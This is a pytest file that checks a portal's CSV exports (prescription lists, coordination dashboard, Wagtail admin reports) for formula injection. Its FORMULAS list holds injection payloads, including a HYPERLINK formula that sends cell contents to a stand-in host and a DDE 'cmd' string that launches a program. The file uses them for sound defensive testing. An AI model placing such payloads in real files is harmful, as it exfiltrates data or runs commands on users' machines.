"""Every CSV the portal hands out — the prescripteur's, the structure's and the coordination's
lists, the coordination's dashboard, the Wagtail admin's exports — is `;`-separated UTF-8 with a
BOM, and no cell a person or a service named `=HYPERLINK(…)` can turn into a live formula."""

import csv
import io

from wagtail.log_actions import log

import pytest

from config.responses import neutralise
from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response):
    """The CSV's cells, after checking its encoding and separator."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows[0]) > 1, "separated by « ; »"
    return [cell for row in rows for cell in row]


def _assert_neutralised(cells, typed):
    """Each typed value is in the file, shown as text; no cell starts like a formula."""
    for value in typed:
        assert any(value in cell for cell in cells), value
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_like_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, None, "", "Atelier = CV", "Léa"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert neutralise(value) == value


@pytest.fixture
def booby_trapped():
    """A prescription whose person, service and structure are named like formulas."""
    structure = factories.StructureFactory(nom=FORMULAS[3])
    service = factories.ServiceFactory(structure=structure, nom=FORMULAS[1])
    prescripteur = factories.MembreFactory(structure=factories.StructureFactory()).user
    factories.PrescriptionFactory(
        service=service, prescripteur=prescripteur, nom=FORMULAS[0], prenom=FORMULAS[4]
    )
    return {
        "prescripteur": prescripteur,
        "structure": factories.MembreFactory(structure=structure).user,
        "coordination": factories.CoordinationFactory(
            membres=[factories.UserFactory()]
        ).membres.get(),
    }


@pytest.mark.parametrize(
    ("role", "url"),
    [
        ("prescripteur", "/prescriptions/?format=csv"),
        ("structure", "/prescriptions/recues/?format=csv"),
        ("coordination", "/prescriptions/coordination/?format=csv"),
    ],
)
def test_prescription_lists(client, booby_trapped, role, url):
    client.force_login(booby_trapped[role])
    cells = _cells(client.get(url))
    _assert_neutralised(cells, [FORMULAS[0].strip(), FORMULAS[1], FORMULAS[3]])
    assert "'" + FORMULAS[1] in cells and "'" + FORMULAS[3] in cells


def test_coordination_dashboard(client, booby_trapped):
    client.force_login(booby_trapped["coordination"])
    cells = _cells(client.get("/parcours/tableau-de-bord/", {"format": "csv"}))
    _assert_neutralised(cells, [FORMULAS[1]])


def test_wagtail_admin_exports_go_through_the_same_writer(client):
    admin = factories.UserFactory(is_superuser=True)
    structure = factories.StructureFactory(nom=FORMULAS[0])
    log(structure, "wagtail.create", user=admin)
    client.force_login(admin)

    cells = _cells(client.get("/admin/reports/site-history/", {"export": "csv"}))

    assert "'" + FORMULAS[0] in cells
    _assert_neutralised(cells, [FORMULAS[0]])
